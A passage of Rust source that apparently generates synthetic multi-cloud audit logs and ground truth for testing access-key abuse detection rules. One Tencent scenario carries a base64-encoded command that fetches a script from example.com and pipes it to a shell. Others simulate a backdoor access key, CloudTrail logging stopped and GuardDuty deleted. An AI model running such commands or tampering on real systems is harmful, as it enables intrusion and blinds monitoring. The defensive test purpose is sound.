            let prefix = format!("{}.{}.{}.", n.prefix[0], n.prefix[1], n.prefix[2]);
            v.home.iter().any(|ip| ip.starts_with(&prefix))
        })
        .map(|n| n.city);
    c.ip = if home_city == Some(8) {
        br_host.clone()
    } else {
        sg_host.clone()
    };
    calls.push(c);
    push(
        "impossible-travel",
        "two calls 20 minutes apart, home and a city far from it",
        Cloud::Aws,
        &v.id,
        t,
        &["ak.impossible_travel"],
    );

    // A12: region sweep.
    let v = victims(Cloud::Aws, &keys, 6);
    let t = at(13);
    for (i, r) in [
        "us-east-1",
        "us-east-2",
        "us-west-1",
        "us-west-2",
        "eu-west-1",
        "eu-central-1",
        "ap-northeast-1",
        "sa-east-1",
    ]
    .iter()
    .enumerate()
    {
        let mut c = sim.call(
            &v,
            t + Duration::seconds(i as i64 * 20),
            "ec2",
            "DescribeInstances",
        );
        c.region = (*r).to_owned();
        calls.push(c);
    }
    push(
        "region-sweep",
        "DescribeInstances in 8 regions in 3 minutes",
        Cloud::Aws,
        &v.id,
        t,
        &["ak.region_sweep"],
    );

    // A13: Tencent TAT remote command.
    let v = victims(Cloud::Tencent, &keys, 2);
    let t = at(14);
    let mut c = sim.call(&v, t, "tat", "RunCommand");
    c.params = json!({"Content": "Y3VybCBodHRwOi8vZXhhbXBsZS5jb20veC5zaCB8IHNo", "InstanceIds": ["ins-0a1b2c3d"]});
    calls.push(c);
    push(
        "remote-command",
        "TAT RunCommand on a CVM",
        Cloud::Tencent,
        &v.id,
        t,
        &["ak.remote_command", "ak.sensitive_api"],
    );

    // A14: instance credentials used from outside the cloud.
    let t = at(15);
    let stolen = "ASIASIMSTOLEN0000001".to_owned();
    calls.push(Call {
        time: t,
        cloud: Cloud::Aws,
        key: Some(stolen.clone()),
        user: "i-0deadbeef0000001".into(),
        uin: "0".into(),
        principal: "assumed_role",
        role: Some("web-instance-role".into()),
        ip: nets[net_of(&nets, 10, |a| (64600..64700).contains(&a))].ip(9),
        ua: "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.1.0".into(),
        region: "us-east-1".into(),
        service: "s3".into(),
        action: "ListBuckets".into(),
        read_only: true,
        error: None,
        console: false,
        params: Value::Null,
        response: Value::Null,
        token: true,
    });
    push(
        "instance-credential-exfil",
        "an EC2 role session used from a Moscow ISP",
        Cloud::Aws,
        &stolen,
        t,
        &["ak.instance_credential_exfil"],
    );

    // A15: a disabled Tencent key used.
    let disabled = key_id(Cloud::Tencent, 15, "DISABLED");
    let t = at(16);
    let mut c = sim.call(
        &victims(Cloud::Tencent, &keys, 3),
        t,
        "cvm",
        "DescribeInstances",
    );
    c.key = Some(disabled.clone());
    c.user = "old-ops".into();
    c.uin = "200000099999".into();
    calls.push(c);
    push(
        "disabled-key",
        "a key the CAM report lists as Disable",
        Cloud::Tencent,
        &disabled,
        t,
        &["ak.disabled_key_use"],
    );

    // A16: GuardDuty disabled.
    let v = victims(Cloud::Aws, &keys, 7);
    let t = at(17);
    let mut c = sim.call(&v, t, "guardduty", "DeleteDetector");
    c.params = json!({"detectorId": "12abc34d567e8fa901bc2d34e56789f0"});
    calls.push(c);
    push(
        "security-tamper",
        "GuardDuty detector deleted",
        Cloud::Aws,
        &v.id,
        t,
        // One alarm for the call: `ak.security_tamper` supersedes `ak.sensitive_api`.
        &["ak.security_tamper"],
    );

    // A17: call-rate spike.
    let v = victims(Cloud::Aws, &keys, 8);
    let t = at(18);
    for i in 0..400 {
        calls.push(sim.call(&v, t + Duration::milliseconds(i * 1200), "s3", "GetObject"));
    }
    push(
        "rate-spike",
        "400 GetObject in 8 minutes",
        Cloud::Aws,
        &v.id,
        t,
        &["ak.rate_spike"],
    );

    // A18: a key Tencent flags as at risk, used.
    let at_risk = key_id(Cloud::Tencent, 18, "ATRISK");
    let t = at(19);
    let mut c = sim.call(&victims(Cloud::Tencent, &keys, 4), t, "cos", "GetObject");
    c.key = Some(at_risk.clone());
    c.user = "mobile-upload".into();
    c.uin = "200000088888".into();
    c.ip = de_host.clone();
    calls.push(c);
    push(
        "at-risk-key",
        "a key the CAM report flags as possibly leaked",
        Cloud::Tencent,
        &at_risk,
        t,
        &["ak.leaked_key_use"],
    );

    // A19: one key from three origins at once (Alibaba).
    let v = victims(Cloud::Alibaba, &keys, 3);
    let t = at(20);
    for (i, ip) in [v.home[0].clone(), sg_host.clone(), br_host.clone()]
        .into_iter()
        .enumerate()
    {
        let mut c = sim.call(&v, t + Duration::minutes(i as i64 * 4), "oss", "GetObject");
        c.ip = ip;
        calls.push(c);
    }
    push(
        "multi-origin",
        "one key from Hangzhou, Singapore and Sao Paulo in 8 minutes",
        Cloud::Alibaba,
        &v.id,
        t,
        &["ak.multi_origin"],
    );

    // A20: one key through several attack stages in 20 minutes — discovery, a backdoor key,
    // logging stopped: each rule's alarm, and one attack-sequence incident over them.
    let v = victims(Cloud::Aws, &keys, 9);
    let t = at(21);
    for (i, what) in [
        "Instances",
        "Volumes",
        "SecurityGroups",
        "Snapshots",
        "KeyPairs",
        "Vpcs",
        "Subnets",
        "Images",
    ]
    .iter()
    .enumerate()
    {
        let when = t + Duration::milliseconds(i as i64 * 700);
        calls.push(sim.call(&v, when, "ec2", &format!("Describe{what}")));
    }
    let chain_key = key_id(Cloud::Aws, 20, "CHAINKEY");
    let mut c = sim.call(&v, t + Duration::minutes(10), "iam", "CreateAccessKey");
    c.params = json!({"userName": "ops-deploy"});
    c.response = json!({"accessKey": {"accessKeyId": chain_key, "status": "Active", "userName": "ops-deploy"}});
    calls.push(c);
    let mut c = sim.call(&v, t + Duration::minutes(20), "cloudtrail", "StopLogging");
    c.params = json!({"name": "org-trail", "Name": "org-trail"});
    calls.push(c);
    push(
        "attack-chain",
        "enumeration, a backdoor key for ops-deploy, the trail stopped: one key in 20 minutes",
        Cloud::Aws,
        &v.id,
        t,
        &[
            "ak.enumeration_burst",
            "ak.backdoor_key",
            "ak.audit_tamper",
            "ak.attack_sequence",
        ],
    );

    // --- late and out-of-order delivery: 2% of calls delayed by up to 10 minutes ---
    calls.sort_by_key(|a| a.time);
    let mut order: Vec<(DateTime<Utc>, usize)> = calls
        .iter()
        .enumerate()
        .map(|(i, c)| {
            let delay = if sim.rng.random_bool(0.02) {
                sim.rng.random_range(0..600)
            } else {
                0
            };
            (c.time + Duration::seconds(delay), i)
        })
        .collect();
    order.sort();

    // --- write ---
    let out = &o.out;
    std::fs::create_dir_all(out)?;
    let mut writers: BTreeMap<(Cloud, i64), Vec<Value>> = BTreeMap::new();
    let mut events = 0u64;
    for (_, i) in order {
        let c = &calls[i];
        let id = sim.id();
        let day = (c.time - o.start).num_days().clamp(0, o.days.max(1) - 1);
        writers
            .entry((c.cloud, day))
            .or_default()
            .push(native(c, &id));
        events += 1;
    }
    for ((cloud, day), records) in &writers {
        let date = (o.start + Duration::days(*day)).format("%Y-%m-%d");
        let (dir, name) = match cloud {
            Cloud::Aws => (
                "logs/aws",
                format!("{AWS_ACCOUNT}_CloudTrail_{date}.json.gz"),
            ),
            Cloud::Alibaba => ("logs/alibaba", format!("actiontrail-sls-{date}.jsonl.gz")),
            Cloud::Tencent => ("logs/tencent", format!("cloudaudit-{date}.jsonl.gz")),
        };
        let path = out.join(dir).join(name);
        std::fs::create_dir_all(path.parent().unwrap_or(out))?;
        let mut gz = GzEncoder::new(std::fs::File::create(&path)?, Compression::default());
        match cloud {
            Cloud::Aws => {
                serde_json::to_writer(&mut gz, &json!({"Records": records}))?;
                gz.write_all(b"\n")?;
            }
            _ => {
                for r in records {
                    serde_json::to_writer(&mut gz, r)?;
                    gz.write_all(b"\n")?;
                }
            }
        }
        gz.finish()?;
    }
    write_reports(out, o, &keys, &dormant, &disabled, &at_risk, &root_key)?;
    write_geo(out, &nets)?;
    write_lists(out, &tor_ip)?;
    write_text(
        &out.join("leaks/gitleaks.json"),
        &serde_json::to_string_pretty(&json!([{
            "RuleID": "aws-access-token", "Description": "AWS access key", "File": "deploy/terraform.tfvars",
            "Commit": "5f3c2a9e8d7b6a5c4f3e2d1c0b9a8f7e6d5c4b3a", "Author": "dev", "Date": (base - Duration::days(1)).to_rfc3339(),
            "Match": format!("aws_access_key_id = \"{leaked_key}\""), "Secret": leaked_key,
        }]))?,
    )?;
    write_text(
        &out.join("policies/allowlist.yaml"),
        &format!(
            "# The CI runner pool deploys infrastructure and runs commands by design.\nallowlist:\n  - id: ci-runners\n    ips: [\"{ci_cidr}\"]\n    method: api\n    rules: [ak.sensitive_api, ak.sensitive_api_suspicious_ip, ak.remote_command, ak.new_source_ip, ak.key_probe, ak.enumeration_burst]\n    owner: platform-team\n    comment: GitHub Actions runners (simulated)\n"
        ),
    )?;
    write_text(
        &out.join("policies/ip_hiding.yaml"),
        &format!(
            "# A partner's sync job: its IPs are the partner's, not ours to inventory.\nip_hiding:\n  - keys: [{}]\n    comment: partner-sync (simulated)\n",
            partner.id
        ),
    )?;
    let quiet = vec![
        Quiet {
            description: "CI runners (allowlisted)".into(),
            key: ci_keys[0].clone(),
            rules: vec![
                "ak.sensitive_api".into(),
                "ak.remote_command".into(),
                "ak.new_source_ip".into(),
            ],
        },
        Quiet {
            description: "partner key from rotating IPs (IP-hidden)".into(),
            key: partner.id.clone(),
            rules: vec![
                "ak.new_source_ip".into(),
                "ak.new_country".into(),
                "ak.new_asn".into(),
                "ak.impossible_travel".into(),
                "ak.multi_origin".into(),
            ],
        },
    ];
    let truth = GroundTruth {
        seed: o.seed,
        keys: keys.len(),
        days: o.days,
        start: o.start,
        events,
        attacks,
        quiet,
    };
    write_text(
        &out.join("ground-truth.json"),
        &serde_json::to_string_pretty(&truth)?,
    )?;
    Ok(truth)
}

fn sample_poisson(rng: &mut ChaCha8Rng, mean: f64) -> usize {
    // Knuth for small means, normal approximation above.
    if mean > 30.0 {
        let z: f64 = (0..12).map(|_| rng.random::<f64>()).sum::<f64>() - 6.0;
        return (mean + z * mean.sqrt()).round().max(0.0) as usize;
    }
    let l = (-mean).exp();
    let (mut k, mut p) = (0usize, 1.0);
    loop {
        p *= rng.random::<f64>();
        if p <= l {
            return k;
        }
        k += 1;
    }
}

fn write_text(path: &Path, text: &str) -> std::io::Result<()> {
    if let Some(p) = path.parent() {
        std::fs::create_dir_all(p)?;
    }
    std::fs::write(path, text)
}

fn write_geo(out: &Path, nets: &[Net]) -> std::io::Result<()> {
    let mut w = MmdbWriter::new("akwatch-Simulated-City-ASN");
    for n in nets {
        let city = &CITIES[n.city];
        let net: IpNetwork = format!("{}.{}.{}.0/24", n.prefix[0], n.prefix[1], n.prefix[2])
            .parse()
            .map_err(std::io::Error::other)?;
        w.insert(
            net,
            &GeoRecord {
                country_iso: city.country.into(),
                country_name: city.country_name.into(),
                city: city.name.into(),
                latitude: city.lat,
                longitude: city.lon,
                asn: n.asn,
                as_org: n.org.into(),
            },
        );
    }
    std::fs::write(out.join("geo.mmdb"), w.to_bytes())
}

fn write_lists(out: &Path, tor_ip: &str) -> std::io::Result<()> {
    write_text(
        &out.join("lists/tor-exits.txt"),
        &format!("# Tor exit nodes (simulated)\n{tor_ip}\n"),
    )?;
    write_text(
        &out.join("lists/threat-ips.txt"),
        "# Threat intelligence (simulated)\n198.19.110.0/28\n",
    )?;
    write_text(
        &out.join("lists/hosting-asns.txt"),
        &format!("# Hosting / VPN providers (simulated)\nAS{HOSTING_ASN} Simulated VPS Hosting\n"),
    )?;
    write_text(
        &out.join("lists/own-cidrs.txt"),
        "# The company's own ranges (simulated)\n10.0.0.0/8\n",
    )?;
    Ok(())
}

#[allow(clippy::too_many_arguments)]
fn write_reports(
    out: &Path,
    o: &SimOptions,
    keys: &[Key],
    dormant: &str,
    disabled: &str,
    at_risk: &str,
    root_key: &str,
) -> std::io::Result<()> {
    let t =
        |d: i64| (o.start - Duration::days(d)).to_rfc3339_opts(chrono::SecondsFormat::Secs, false);
    let tc = |d: i64| {
        (o.start - Duration::days(d) + Duration::hours(8))
            .format("%Y/%-m/%-d %-H:%M:%S")
            .to_string()
    };
    let _ = root_key;
    // AWS IAM
    let mut aws = String::from(
        "user,arn,user_creation_time,password_enabled,password_last_used,password_last_changed,password_next_rotation,mfa_active,access_key_1_active,access_key_1_last_rotated,access_key_1_last_used_date,access_key_1_last_used_region,access_key_1_last_used_service,access_key_2_active,access_key_2_last_rotated,access_key_2_last_used_date,access_key_2_last_used_region,access_key_2_last_used_service,cert_1_active,cert_1_last_rotated,cert_2_active,cert_2_last_rotated\n",
    );
    aws += &format!(
        "<root_account>,arn:aws:iam::{AWS_ACCOUNT}:root,{},not_supported,{},not_supported,not_supported,true,true,{},{},us-east-1,s3,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A\n",
        t(900),
        t(30),
        t(900),
        t(60)
    );
    for k in keys.iter().filter(|k| k.cloud == Cloud::Aws) {
        aws += &format!(
            "{},arn:aws:iam::{AWS_ACCOUNT}:user/{},{},false,N/A,N/A,N/A,false,true,{},{},{},s3,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A\n",
            k.user,
            k.user,
            t(200),
            t(200),
            t(1),
            k.region
        );
    }
    aws += &format!(
        "legacy-export,arn:aws:iam::{AWS_ACCOUNT}:user/legacy-export,{},false,N/A,N/A,N/A,false,true,{},{},us-east-1,s3,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A\n",
        t(700),
        t(700),
        t(150)
    );
    aws += &format!(
        "svc-backup,arn:aws:iam::{AWS_ACCOUNT}:user/svc-backup,{},false,N/A,N/A,N/A,false,false,N/A,N/A,N/A,N/A,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A\n",
        t(300)
    );
    aws += &format!(
        "admin-console,arn:aws:iam::{AWS_ACCOUNT}:user/admin-console,{},true,{},{},N/A,false,false,N/A,N/A,N/A,N/A,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A\n",
        t(400),
        t(2),
        t(400)
    );
    write_text(&out.join("reports/aws-iam-credential-report.csv"), &aws)?;
    let _ = dormant;
    // Alibaba RAM
    let mut ali = String::from(
        "user,user_creation_time,user_last_logon,password_exist,password_active,password_last_changed,password_next_rotation,mfa_active,access_key_1_exist,access_key_1_active,access_key_1_last_rotated,access_key_1_last_used,access_key_2_exist,access_key_2_active,access_key_2_last_rotated,access_key_2_last_used\n",
    );
    ali += &format!(
        "<root>,{},{},TRUE,TRUE,{},N/A,TRUE,FALSE,N/A,N/A,N/A,FALSE,N/A,N/A,N/A\n",
        t(1000),
        t(3),
        t(120)
    );
    for k in keys.iter().filter(|k| k.cloud == Cloud::Alibaba) {
        ali += &format!(
            "{}@corp.onaliyun.com,{},-,FALSE,N/A,N/A,N/A,N/A,TRUE,TRUE,{},{},FALSE,N/A,N/A,N/A\n",
            k.user,
            t(180),
            t(180),
            t(1)
        );
    }
    write_text(&out.join("reports/alibaba-ram-credential-report.csv"), &ali)?;
    // Tencent CAM
    let mut tcr = String::from(
        "AccountID,Username,UserType,CreationTime,PasswordEnabled,PasswordLastRotation,LoginConsoleActive,LoginProtectionActive,OperationProtectionActive,MFADeviceActive,Abnormal LoginsNumWithin30Days,AccessKey1SecretId,AccessKey1MayBeAtRisk,AccessKey1CreationTime,AccessKey1Status,AccessKey1lastUsedDate,AccessKey1CreatedOver90Days,AccessKey1CreatedOver30Days,AccessKey2SecretId,AccessKey2MayBeAtRisk,AccessKey2CreationTime,AccessKey2Status,AccessKey2lastUsedDate,AccessKey2CreatedOver90Days,AccessKey2CreatedOver30Days\n",
    );
    for k in keys.iter().filter(|k| k.cloud == Cloud::Tencent) {
        tcr += &format!(
            "{},{},sub-user,{},FALSE,FALSE,FALSE,FALSE,FALSE,FALSE,FALSE,{},FALSE,{},Active,{},TRUE,TRUE,N/A,N/A,N/A,N/A,N/A,N/A,N/A\n",
            k.uin,
            k.user,
            tc(150),
            k.id,
            tc(150),
            tc(1)
        );
    }
    tcr += &format!(
        "200000099999,old-ops,sub-user,{},FALSE,FALSE,FALSE,FALSE,FALSE,FALSE,FALSE,{disabled},FALSE,{},Disable,{},TRUE,TRUE,N/A,N/A,N/A,N/A,N/A,N/A,N/A\n",
        tc(800),
        tc(800),
        tc(400)
    );
    tcr += &format!(
        "200000088888,mobile-upload,sub-user,{},TRUE,{},TRUE,FALSE,FALSE,FALSE,FALSE,N/A,N/A,N/A,N/A,N/A,N/A,N/A,{at_risk},TRUE,{},Active,{},TRUE,TRUE\n",
        tc(500),
        tc(500),
        tc(500),
        tc(2)
    );
    write_text(&out.join("reports/tencent-cam-credential-report.csv"), &tcr)?;
    Ok(())
}
